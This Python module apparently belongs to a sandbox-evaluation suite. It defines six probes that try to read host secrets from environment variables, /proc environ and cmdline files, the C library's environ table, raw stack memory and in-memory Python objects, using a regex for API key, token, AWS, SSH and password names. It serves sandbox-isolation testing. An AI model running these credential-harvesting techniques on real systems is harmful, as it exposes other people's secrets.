"""Secrets of the host in variables, arguments and memory."""

from evaluation.sandbox.attacks.model import Attack, AttackClass

_LOOK = r"""
import re
WANTED = re.compile("([A-Z]+_(API_KEY|SECRET|TOKEN|PASSWORD)|(DATABASE|DJANGO|OPENAI|SUPABASE|"
                    "REDIS|AWS|SSH|VIRTUAL_ENV|LOGNAME|SECRET|PASSWORD)[A-Z_]*)=")
def look(where, text):
    found = WANTED.search(text)
    return f"ESCAPED {where} holds {found[0]}" if found else None
"""

CLASS = AttackClass(
    name="environment",
    aim="Read a secret from the environment or the command line of the host's processes",
    weakening="kept environment",
    attacks=(
        Attack(
            name="own_variables",
            kind="run",
            code=_LOOK
            + r"""
import os
def f(facts):
    text = "\n".join(f"{name}={value}" for name, value in os.environ.items())
    return look("the environment", text) or f"only {sorted(os.environ)}"
""",
        ),
        Attack(
            name="variables_of_the_first_process",
            kind="run",
            code=_LOOK
            + r"""
import os
def f(facts):
    said = []
    for pid in (1, os.getppid(), "self", facts["victim_pid"]):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                text = file.read().decode(errors="replace").replace("\0", "\n")
        except OSError as error:
            said.append(error.strerror)
            continue
        if found := look(f"process {pid}", text):
            return found
        said.append("nothing in it")
    return f"refused: {said}"
""",
        ),
        Attack(
            name="variables_of_the_c_library",
            kind="run",
            code=_LOOK
            + r"""
import ctypes
def f(facts):
    table = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    lines = []
    while table[len(lines)]:
        lines.append(table[len(lines)].decode(errors="replace"))
    return look("environ", "\n".join(lines)) or f"only {len(lines)} variables"
""",
        ),
        Attack(
            name="beyond_the_end_of_the_stack",
            kind="run",
            code=_LOOK
            + r"""
import ctypes, os
def f(facts):
    # The kernel lays out arguments and variables of the first exec at the top of the stack,
    # where they stay after the program has unset them.
    table = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    address = ctypes.cast(table, ctypes.POINTER(ctypes.c_void_p))[0]
    read, write = os.pipe()
    os.set_blocking(write, False)
    page, data = address & ~0xFFF, b""
    while len(data) < 200_000:
        try:  # write() says EFAULT where reading would be fatal
            ctypes.set_errno(0)
            got = ctypes.CDLL(None, use_errno=True).write(write, ctypes.c_void_p(page), 4096)
        except OSError:
            break
        if got <= 0:
            break
        data += os.read(read, got)
        page += 4096
    text = data.decode("latin-1").replace("\0", "\n")
    return look("the stack", text) or f"nothing in {len(data)} bytes"
""",
        ),
        Attack(
            name="command_lines",
            kind="run",
            code=r"""
import os, sys
def f(facts):
    said = [" ".join(sys.argv), " ".join(sys.orig_argv)]
    for path in ("/proc/1/cmdline", f"/proc/{os.getppid()}/cmdline", "/proc/cmdline"):
        try:
            with open(path, "rb") as file:
                said.append(file.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    text = "\n".join(said)
    if "bwrap" in text or "--ro-bind" in text or "BOOT_IMAGE" in text or facts["canary"] in text:
        return f"ESCAPED {text[:200]}"
    return f"only {text[:200]}"
""",
        ),
        Attack(
            name="objects_of_the_program",
            kind="run",
            code=_LOOK
            + r"""
import gc
def f(facts):
    gc.unfreeze()
    for found in gc.get_objects():
        if type(found) is dict:
            for name, value in list(found.items())[:2000]:
                if type(name) is str and name.isupper() and type(value) is str and value:
                    if said := look("an object", f"{name}={value}"):
                        return said
    return "nothing in memory"
""",
        ),
    ),
)
